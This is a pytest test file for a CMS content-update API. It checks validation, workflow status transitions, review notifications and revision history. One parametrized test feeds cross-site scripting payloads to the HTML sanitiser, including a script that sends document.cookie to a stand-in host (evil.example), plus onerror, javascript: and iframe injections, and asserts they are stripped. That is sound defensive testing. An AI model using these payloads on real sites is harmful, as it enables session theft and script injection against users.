"""POST /writer/content/{id}/update_content/: validation, sanitising, the workflow, revisions and
``content_ready_review``; GET /writer/content/{id}/revisions/."""

import pytest

from inkwell.api.tests import assert_error
from inkwell.notifications.models import Notification
from inkwell.writer.models import Content, ContentRevision, ContentStatus
from inkwell.writer.tests.factories import make_content

pytestmark = pytest.mark.django_db

CONTENT = "/api/v1/writer/content/"


def update(client, content, **body):
    return client.post(f"{CONTENT}{content.pk}/update_content/", body, format="json")


def reloaded(content) -> Content:
    return Content.dangerously_unscoped.get(pk=content.pk)


def revisions_of(content) -> list[ContentRevision]:
    return list(ContentRevision.objects.for_account(content.account_id).filter(content=content).order_by("id"))


# Validation


@pytest.mark.parametrize("title", ["", "  ", None], ids=["empty", "blank", "null"])
def test_the_title_cannot_be_removed_and_answers_the_spec_message(tenant, as_user, title):
    content = make_content(tenant)

    response = update(as_user(tenant.owner), content, title=title, html="<p>x</p>")

    assert_error(response, 400, "validation_error", errors={"title": ["This field is required"]})
    assert (reloaded(content).title, reloaded(content).html) == (content.title, content.html)


def test_fields_left_out_keep_their_values(tenant, as_user):
    content = make_content(tenant, title="Kept", meta_title="Kept meta")

    response = update(as_user(tenant.owner), content, html="<p>New body</p>")

    assert response.status_code == 200, response.content
    assert (reloaded(content).title, reloaded(content).meta_title, reloaded(content).html) == ("Kept", "Kept meta", "<p>New body</p>")


def test_meta_title_and_description_lengths_are_limited_with_clear_messages(tenant, as_user):
    content = make_content(tenant)
    client = as_user(tenant.owner)

    response = update(client, content, title="T", meta_title="m" * 61, meta_description="d" * 161)

    assert_error(response, 400, "validation_error", errors={
        "meta_title": ["Meta title must be at most 60 characters"],
        "meta_description": ["Meta description must be at most 160 characters"],
    })
    ok = update(client, content, title="T", meta_title="m" * 60, meta_description="d" * 160)
    assert ok.status_code == 200, ok.content
    assert (len(ok.json()["data"]["meta_title"]), len(ok.json()["data"]["meta_description"])) == (60, 160)


ATTACKS = {
    "script tag": ("<p>Safe</p><script>document.location='https://evil.example/'+document.cookie</script>", "<p>Safe</p>"),
    "onerror attribute": ('<p>Look</p><img src="/photo.png" onerror="alert(1)" alt="A photo">', '<p>Look</p><img src="/photo.png" alt="A photo">'),
    "javascript link": ('<p><a href="javascript:alert(1)">Click</a> <a href="JaVaScRiPt:alert(2)">again</a></p>', "<p><a>Click</a> <a>again</a></p>"),
    "event handler": ('<h2 onclick="steal()" style="color:red">Heading</h2>', "<h2>Heading</h2>"),
    "iframe": ('<p>Text</p><iframe src="https://evil.example/"></iframe>', "<p>Text</p>"),
    "data url image": ('<img src="data:text/html;base64,PHNjcmlwdD4=">', "<img>"),
}


@pytest.mark.parametrize(("html", "clean"), ATTACKS.values(), ids=ATTACKS.keys())
def test_the_body_is_sanitised_against_script_injection(tenant, as_user, html, clean):
    content = make_content(tenant)

    response = update(as_user(tenant.owner), content, title="Safe", html=html)

    assert response.status_code == 200, response.content
    assert response.json()["data"]["html"] == clean
    assert reloaded(content).html == clean


def test_article_markup_survives_sanitising(tenant, as_user):
    html = (
        '<h2 id="fit">Fit</h2><p>Try <strong>several</strong> <em>pairs</em>; see <a href="https://example.com/guide" rel="nofollow">the guide</a>.</p>'
        '<ul><li>Heel</li><li>Toe box</li></ul><ol start="2"><li>Lace</li></ol><blockquote>Comfort first.</blockquote>'
        '<figure><img src="https://cdn.example.com/shoe.png" alt="A shoe" width="640" height="480"><figcaption>A shoe</figcaption></figure>'
        '<table><thead><tr><th scope="col">Size</th></tr></thead><tbody><tr><td colspan="2">42</td></tr></tbody></table>'
    )
    content = make_content(tenant)

    response = update(as_user(tenant.owner), content, title="Fit", html=html)

    assert response.json()["data"]["html"] == html


def test_the_word_count_is_recounted_from_the_visible_text(tenant, as_user):
    content = make_content(tenant, word_count=999)

    response = update(as_user(tenant.owner), content, title="Words", html="<h2>Two words</h2><p>and three more</p><script>var hidden = 1;</script>")

    assert response.json()["data"]["word_count"] == 5


# Workflow


ALLOWED = [("draft", "review"), ("review", "approved"), ("review", "draft"), ("approved", "review")]
REFUSED = [
    ("draft", "approved"),
    ("draft", "published"),
    ("review", "published"),
    ("approved", "draft"),
    ("approved", "published"),
    ("published", "draft"),
    ("published", "review"),
]


@pytest.mark.parametrize(("current", "wanted"), ALLOWED)
def test_allowed_transitions_move_the_workflow(tenant, as_user, current, wanted):
    content = make_content(tenant, status=current)

    response = update(as_user(tenant.owner), content, title=content.title, status=wanted)

    assert response.status_code == 200, response.content
    assert response.json()["data"]["status"] == wanted == reloaded(content).status


@pytest.mark.parametrize(("current", "wanted"), REFUSED)
def test_other_transitions_are_a_state_conflict_and_change_nothing(tenant, as_user, current, wanted):
    content = make_content(tenant, status=current)

    response = update(as_user(tenant.owner), content, title="Changed too", status=wanted)

    assert_error(response, 409, "state_conflict", errors={"status": [f"Content cannot move from {current} to {wanted}"]})
    assert (reloaded(content).status, reloaded(content).title) == (current, content.title)
    assert revisions_of(content) == []


def test_staying_in_the_same_status_is_allowed(tenant, as_user):
    content = make_content(tenant, status=ContentStatus.APPROVED)

    response = update(as_user(tenant.owner), content, title="Polished", status="approved")

    assert response.status_code == 200, response.content


def test_entering_review_raises_content_ready_review_once(tenant, as_user):
    content = make_content(tenant, title="Ready soon")
    client = as_user(tenant.owner)

    update(client, content, title="Ready soon", status="review")
    update(client, content, title="Ready soon, polished", status="review")

    [notice] = Notification.objects.for_account(tenant.account).filter(notification_type="content_ready_review")
    assert notice.site_id == tenant.site.pk
    assert notice.action_url == f"/app/content/{content.pk}/"
    assert notice.metadata == {"count": 1, "content_id": content.pk}
    assert "Ready soon" in notice.message


def test_approval_raises_no_review_notification(tenant, as_user):
    content = make_content(tenant, status=ContentStatus.REVIEW)

    update(as_user(tenant.owner), content, title=content.title, status="approved")

    assert not Notification.objects.for_account(tenant.account).filter(notification_type="content_ready_review").exists()


# Revisions


def test_every_change_of_title_body_or_meta_keeps_the_previous_version(tenant, as_user):
    content = make_content(tenant, title="First", html="<p>One</p>", meta_title="Meta one", meta_description="Desc one")
    client = as_user(tenant.owner)

    update(client, content, title="Second", html="<p>One</p>")
    update(client, content, title="Second", html="<p>Two</p>")
    update(client, content, title="Second", meta_title="Meta two")
    update(client, content, title="Second", meta_description="Desc two")

    versions = [(r.title, r.html, r.meta_title, r.meta_description) for r in revisions_of(content)]
    assert versions == [
        ("First", "<p>One</p>", "Meta one", "Desc one"),
        ("Second", "<p>One</p>", "Meta one", "Desc one"),
        ("Second", "<p>Two</p>", "Meta one", "Desc one"),
        ("Second", "<p>Two</p>", "Meta two", "Desc one"),
    ]
    assert {r.created_by_id for r in revisions_of(content)} == {tenant.owner.pk}


def test_no_revision_without_a_change_of_title_body_or_meta(tenant, as_user):
    content = make_content(tenant, title="Same", html="<p>Same</p>")
    client = as_user(tenant.owner)

    update(client, content, title="Same", html="<p>Same</p>")
    update(client, content, title="Same", status="review")
    update(client, content, title="Same", focus_keyword="shoes")

    assert revisions_of(content) == []


def test_a_body_that_sanitises_to_the_same_html_is_no_change(tenant, as_user):
    content = make_content(tenant, html="<p>Same</p>")

    update(as_user(tenant.owner), content, title=content.title, html="<p>Same</p><script>x()</script>")

    assert revisions_of(content) == []


def test_the_revisions_route_lists_earlier_versions_newest_first(tenant, as_user):
    content = make_content(tenant, title="v1")
    client = as_user(tenant.owner)
    for title in ("v2", "v3"):
        update(client, content, title=title)

    response = client.get(f"{CONTENT}{content.pk}/revisions/")

    assert response.status_code == 200, response.content
    body = response.json()
    assert body["count"] == 2
    assert [row["title"] for row in body["results"]] == ["v2", "v1"]
    assert set(body["results"][0]) == {"id", "content_id", "title", "html", "excerpt", "meta_title", "meta_description", "focus_keyword", "status", "is_autosave", "created_by_id", "created_at"}
    assert as_user(tenant.viewer).get(f"{CONTENT}{content.pk}/revisions/").status_code == 404, "the viewer has no grant to the site"
